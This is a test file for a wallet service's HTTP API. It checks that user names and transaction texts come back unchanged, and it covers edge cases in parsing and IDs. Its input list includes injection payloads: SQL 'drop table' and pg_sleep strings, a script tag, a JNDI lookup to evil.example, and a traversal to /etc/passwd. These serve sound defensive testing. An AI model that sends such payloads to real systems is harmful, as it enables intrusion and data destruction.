import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { startWalletService, type WalletService } from "./wallet-service.ts";

/** Texts of clients are data: whatever they look like, they come back as they went in and do nothing. */

let service: WalletService;

beforeAll(async () => {
  service = await startWalletService("names");
});
afterAll(() => service.stop());

const NAMES = [
  "'; drop table wallet.wallets; --",
  "' or '1'='1",
  "$$; select pg_sleep(5); $$",
  "{}",
  '{"$ne":null}',
  "<script>alert(1)</script>",
  "&lt;b&gt;",
  "{{7*7}}",
  "$" + "{jndi:ldap://evil.example/x}",
  "../../etc/passwd",
  "%00%0a%2e%2e",
  "...",
  " leading and trailing ",
  'quotes " and \\ backslashes',
  "=1+1",
  "__proto__",
  "constructor",
  "null",
  "undefined",
  "NaN",
  "a/b?c=d#e&f=g",
  "山田太郎",
  "مستخدم",
  "Zo\u0308e",
  "right\u202eleft",
  "zero\u200bwidth",
  "😀".repeat(100),
  "x".repeat(100),
];

describe("a user is called what the client says", () => {
  test.each(NAMES.map((name) => [name.length > 60 ? `${name.slice(0, 4)}… of ${name.length}` : name, name]))(
    "%s",
    async (_, name) => {
      const opened = await service.post("/wallets", { user_id: name });
      expect(opened.status).toBe(201);
      expect(opened.body.user_id).toBe(name);
      expect((await service.get(opened.headers.get("location")!)).text).toBe(opened.text);
      const listed = await service.get(`/users/${encodeURIComponent(name)}/wallets`);
      expect(listed.body).toEqual({ items: [opened.body], next_cursor: null });
    },
  );

  test("an unknown one has no wallets", async () => {
    expect((await service.get("/users/nobody/wallets")).body).toEqual({ items: [], next_cursor: null });
  });

  test("names that look alike are different users", async () => {
    await service.post("/wallets", { user_id: "Eve" });
    for (const other of ["eve", "Eve ", "\u0415ve", "EVE"])
      expect((await service.get(`/users/${encodeURIComponent(other)}/wallets`)).body.items).toEqual([]);
  });
});

describe("a movement is described as the client says", () => {
  const texts = [...NAMES.slice(0, -2), "two\nlines\tand a tab", "😀".repeat(100)];

  test("in the answer, in the line and in the event", async () => {
    const wallet = await service.open();
    for (const text of texts) {
      const funded = await service.post(`/wallets/${wallet}/fund`, { amount: "1", description: text, reference: text });
      expect([funded.body.description, funded.body.reference]).toEqual([text, text]);
      expect((await service.get(`/transactions/${funded.body.id}`)).text).toBe(funded.text);
      const found = await service.get(`/wallets/${wallet}/transactions?reference=${encodeURIComponent(text)}`);
      expect(found.body.items).toEqual([funded.body]);
    }
  });

  test("at its full length, counted in characters", async () => {
    const wallet = await service.open();
    const body = { amount: "1", description: "😀".repeat(255), reference: "é".repeat(100) };
    expect(await service.post(`/wallets/${wallet}/fund`, body)).toMatchObject({
      status: 201,
      body: { ...body, amount: "1.0000" },
    });
  });

  test("null says the same as leaving out", async () => {
    const wallet = await service.open();
    const funded = await service.post(`/wallets/${wallet}/fund`, { amount: "1", description: null, reference: null });
    expect(funded).toMatchObject({ status: 201, body: { description: null, reference: null } });
    expect((await service.post("/wallets", { user_id: "null", currency: null })).body.currency).toBe("USD");
  });
});

describe("what is unusual and well-formed is accepted", () => {
  test.each(["application/json", "application/json; charset=utf-8", "Application/JSON ;charset=UTF-8"])(
    "the content type %s",
    async (type) => {
      const opened = await service.post("/wallets", { user_id: "eve" }, { "content-type": type });
      expect(opened.status).toBe(201);
    },
  );

  test("of a member that occurs twice the last one counts, in the money and in the answer", async () => {
    const wallet = await service.open();
    const funded = await service.post(`/wallets/${wallet}/fund`, '{"amount":"1","amount":"2"}');
    expect(funded).toMatchObject({ status: 201, body: { amount: "2.0000" } });
    expect((await service.get(`/wallets/${wallet}`)).body.balance).toBe("2.0000");
  });

  test("ids in upper case, and a slash at the end", async () => {
    const [one, other] = [await service.open("5"), await service.open()];
    const body = { amount: "1", to_wallet_id: other.toUpperCase() };
    const sent = await service.post(`/wallets/${one.toUpperCase()}/transfer/`, body);
    expect(sent).toMatchObject({ status: 201, body: { from_wallet_id: one, to_wallet_id: other } });
    expect((await service.get(`/wallets/${one.toUpperCase()}/`)).body).toMatchObject({ id: one, balance: "4.0000" });
  });

  test("an id that is a UUID of another version is unknown, not malformed", async () => {
    for (const id of ["00000000-0000-0000-0000-000000000000", "f47ac10b-58cc-4372-a567-0e02b2c3d479"]) {
      expect((await service.get(`/wallets/${id}`)).body.code).toBe("wallet_not_found");
      expect((await service.get(`/transactions/${id}`)).body.code).toBe("transaction_not_found");
    }
  });
});
